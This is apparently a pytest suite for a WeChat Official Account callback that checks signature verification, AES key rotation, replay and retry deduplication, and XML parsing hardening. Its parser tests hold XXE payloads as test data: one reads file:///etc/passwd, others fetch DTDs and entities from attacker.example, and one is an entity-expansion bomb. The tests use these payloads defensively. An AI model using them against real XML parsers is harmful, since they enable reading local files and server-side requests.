"""The callback over real HTTP: URL check, plaintext and safe mode (with a key change), refusals, retries."""
from __future__ import annotations

import time

import pytest
import xmltodict

from official_account import handlers
from tests.official_account.conftest import CALLBACK, simulator

OLD_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
NEW_KEY = "ZYXWVUTSRQPONMLKJIHGFEDCBA9876543210zyxwvut"


@pytest.fixture
def runs(monkeypatch) -> list[str]:
    """Every message a handler ran for."""
    seen: list[str] = []
    real = handlers.dispatch

    def counting(message):
        seen.append(message.type)
        return real(message)

    monkeypatch.setattr(handlers, "dispatch", counting)
    return seen


def test_url_check_echoes_only_for_a_valid_fresh_signature(follower):
    good = follower.verify_url("12345")
    assert (good.status, good.text) == (200, "12345")
    forged = follower.verify_url("12345", forge_signature=True)
    assert forged.status == 403 and b"12345" not in forged.body
    stale = follower.verify_url("12345", timestamp=int(time.time()) - 3600)
    assert stale.status == 403


def test_plaintext_round_trip(plain_follower, runs):
    result = plain_follower.send_text("o-plain", "门店")
    assert result.status == 200
    assert result.reply["MsgType"] == "text" and "位置" in result.reply["Content"]
    assert result.reply["ToUserName"] == "o-plain"
    assert runs == ["text"]


def test_safe_mode_round_trip_with_encrypted_reply(follower):
    result = follower.send_text("o-safe", "门店")
    assert b"<Encrypt>" in result.body and "位置".encode() not in result.body  # nothing readable on the wire
    assert "位置" in result.reply["Content"]  # the simulator verified MsgSignature and decrypted it


def configured(request, app_config, **settings):
    """The app and its server, made after the test set its configuration."""
    app_config.update(settings)
    return request.getfixturevalue("app_ctx"), request.getfixturevalue("served")


def test_the_previous_key_is_accepted_during_a_key_change(request, app_config, sandbox, runs):
    app, served = configured(request, app_config, OFFICIAL_ACCOUNT_AES_KEY=NEW_KEY,
                             OFFICIAL_ACCOUNT_PREVIOUS_AES_KEY=OLD_KEY)
    with simulator(app, served, sandbox, aes_key=OLD_KEY) as old, \
            simulator(app, served, sandbox, aes_key=NEW_KEY) as new:
        assert "位置" in old.send_text("o-old", "门店").reply["Content"]  # answered with the old key too
        assert "位置" in new.send_text("o-new", "门店").reply["Content"]
    with simulator(app, served, sandbox, aes_key="0" * 43) as stranger:
        assert stranger.send_text("o-x", "门店").status == 400
    assert runs == ["text", "text"]


def test_forged_signatures_are_refused_and_nothing_runs(follower, plain_follower, runs):
    assert plain_follower.send_text("o-1", "订单", forge_signature=True).status == 403
    assert follower.send_text("o-1", "订单", forge_signature=True).status == 403  # bad msg_signature too
    assert plain_follower.send_text("o-1", "订单", timestamp=int(time.time()) - 3600).status == 403
    assert runs == []


XXE = ('<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
       "<xml><ToUserName>gh</ToUserName><FromUserName>o-1</FromUserName><CreateTime>1</CreateTime>"
       "<MsgType>text</MsgType><Content>&e;</Content><MsgId>1</MsgId></xml>")


@pytest.mark.parametrize("body", [XXE, XXE.replace("SYSTEM \"file:///etc/passwd\"", '"boom"'),
                                  "not xml at all", "<xml><MsgType>text</MsgType>", "<other/>",
                                  "<xml><FromUserName>o</FromUserName><MsgType>text</MsgType>"
                                  "<CreateTime>soon</CreateTime></xml>"])
def test_entities_and_garbage_are_refused_without_running_anything(follower, plain_follower, runs, body):
    assert plain_follower.send_raw(body).status == 400
    assert follower.send_raw(body).status == 400  # the same inside the encrypted envelope
    assert runs == []


MESSAGE = ("<xml><ToUserName>gh</ToUserName><FromUserName>o-1</FromUserName><CreateTime>1</CreateTime>"
           "<MsgType>text</MsgType><Content>{}</Content><MsgId>1</MsgId></xml>")


@pytest.mark.parametrize("prolog", [
    "<!DOCTYPE xml>",  # a declaration with nothing in it is refused too: the parser refuses any
    '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">',
    '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
    '<!DOCTYPE xml [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
])
def test_the_parser_refuses_every_document_type_declaration(prolog):
    from app.errors import InvalidRequest
    from official_account.security import parse_xml

    with pytest.raises(InvalidRequest, match="Document type and entity declarations"):
        parse_xml('<?xml version="1.0"?>' + prolog + MESSAGE.format("x"))


def test_a_declaration_inside_cdata_is_text():
    from official_account.security import parse_xml

    text = '<!DOCTYPE html> <!ENTITY x "y"> &amp; 你好'
    assert parse_xml(MESSAGE.format(f"<![CDATA[{text}]]>"))["Content"] == text


@pytest.mark.parametrize("document", [
    MESSAGE.format(" 门店 "), MESSAGE.format("<![CDATA[ <b>&amp;</b> ]]>"), MESSAGE.format(""),
    "<?xml version='1.0' encoding='gbk'?>\n<xml>\n <A>&lt;&#x4e2d;</A>\n <B/>\n</xml>\n",
    "<xml><A>x<!-- c -->y</A><?pi z?></xml>", "<xml><A>x\r\ny</A></xml>",
    # not flat: xmltodict's own reading (or refusal), as before the fast path
    "<xml a='1'><A>x</A></xml>", "<xml>t<A>x</A></xml>", "<xml><A>x</A>t</xml>", "<xml><A>x</A><A>y</A></xml>",
    "<xml><ScanCodeInfo><ScanType>q</ScanType></ScanCodeInfo></xml>", "<xml><a:A>x</a:A></xml>",
    "<xml><A xmlns:a='u'>x</A></xml>", "<xml><A b='1'>x</A></xml>",
])
def test_a_flat_message_reads_as_xmltodict_reads_it(document):
    """ElementTree's fast path (security._flat_fields) gives xmltodict's dict, and declines what is not flat."""
    from official_account.security import _ExpatWithoutDoctype, _flat_fields

    fast = _flat_fields(document)
    assert fast is None or fast == xmltodict.parse(document, expat=_ExpatWithoutDoctype)["xml"]
    assert (fast is None) == ("A>t" in document or "a=" in document or "b=" in document or "x</A><A" in document
                              or "Info>" in document or "a:A" in document or ">t<" in document)


def test_the_fast_path_refuses_a_declaration_too():
    """Its tree builder refuses a declaration even where the text check before it would not have sent one there."""
    from defusedxml import DTDForbidden

    from official_account.security import _TreeWithoutDoctype
    from xml.etree.ElementTree import XMLParser

    parser = XMLParser(target=_TreeWithoutDoctype(), encoding="utf-8")
    with pytest.raises(DTDForbidden):
        parser.feed('<!DOCTYPE xml [<!ENTITY a "b">]><xml><A>&a;</A></xml>')
        parser.close()


def test_xmltodict_itself_refuses_entities():
    """Defence in depth behind the declaration check: the parser wechatpy uses has entities disabled."""
    with pytest.raises(ValueError):
        xmltodict.parse('<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')


def test_a_ten_megabyte_body_is_refused(app_ctx, served, runs):
    import requests

    from wechat_sandbox.follower import sign

    ts, nonce = str(int(time.time())), "1"
    params = {"signature": sign(app_ctx.config["OFFICIAL_ACCOUNT_TOKEN"], ts, nonce), "timestamp": ts,
              "nonce": nonce}
    response = requests.post(served.base_url + CALLBACK, params=params, data=b"<xml>" + b"a" * 10_000_000,
                             timeout=30)
    assert response.status_code == 413
    assert runs == []


def test_safe_mode_only_refuses_plaintext(request, app_config, sandbox):
    app, served = configured(request, app_config, OFFICIAL_ACCOUNT_REQUIRE_SAFE_MODE=True)
    with simulator(app, served, sandbox, aes_key=None) as plain, simulator(app, served, sandbox) as safe:
        assert plain.send_text("o-1", "门店").status == 403
        assert safe.send_text("o-1", "门店").status == 200


def test_a_retried_msgid_runs_once_and_gets_the_same_reply(follower, runs):
    first = follower.send_text("o-retry", "门店", msg_id=424242)
    again = follower.send_text("o-retry", "门店", msg_id=424242)
    assert runs == ["text"]
    assert again.reply == first.reply
    follower.send_text("o-retry", "门店", msg_id=424243)
    assert runs == ["text", "text"]


def test_a_retried_event_runs_once(follower, wx, runs):
    created = int(time.time())
    for _ in range(3):
        assert follower.subscribe("o-sub", timestamp=created).status == 200
    assert runs == ["event"]
    assert len(wx.records("cgi-bin/user/info")) == 1


def test_dedup_claims_once_and_hands_retries_the_first_reply(app_ctx):
    from official_account import dedup

    assert dedup.claim("msg:1") == (True, None)
    assert dedup.claim("msg:1") == (False, None)  # the first is still being handled: `success`
    dedup.store("msg:1", "<xml>reply</xml>")
    assert dedup.claim("msg:1") == (False, "<xml>reply</xml>")
    dedup.release("msg:1")
    assert dedup.claim("msg:1") == (True, None)  # a handler that failed leaves the retry free to run


def test_admit_and_claim_refuses_another_body_and_claims_once(app_ctx, monkeypatch):
    """The (timestamp, nonce) record and the MsgId claim, one Redis round trip with Redis: a second body under a
    seen pair is refused and claims nothing; the same body again is a retry; Redis failing falls back as each check
    does alone (the record in this process's memory, the message handled as a first arrival)."""
    from redis.exceptions import ConnectionError as RedisConnectionError

    from app.extensions import redis_client
    from official_account import dedup, replay

    ts, query = str(int(time.time())), b"signature=s&timestamp=t&nonce=n"
    assert replay.admit_and_claim(ts, "n1", query, b"<xml>a</xml>", "msg:71") == (True, True, None)
    assert replay.admit_and_claim(ts, "n1", query, b"<xml>b</xml>", "msg:72") == (False, False, None)
    assert dedup.claim("msg:72") == (True, None)  # the refused body claimed nothing
    assert replay.admit_and_claim(ts, "n1", query, b"<xml>a</xml>", "msg:71") == (True, False, None)
    dedup.store("msg:71", "<xml>reply</xml>")
    assert replay.admit_and_claim(ts, "n1", query, b"<xml>a</xml>", "msg:71") == (True, False, "<xml>reply</xml>")
    redis = redis_client()
    if redis is None:
        return

    def down(*args, **kwargs):
        raise RedisConnectionError("down")

    monkeypatch.setattr(type(redis), "register_script", down)
    assert replay.admit_and_claim(ts, "n2", query, b"<xml>c</xml>", "msg:73") == (True, True, None)
    assert replay.admit_and_claim(ts, "n2", query, b"<xml>d</xml>", "msg:74") == (False, False, None)
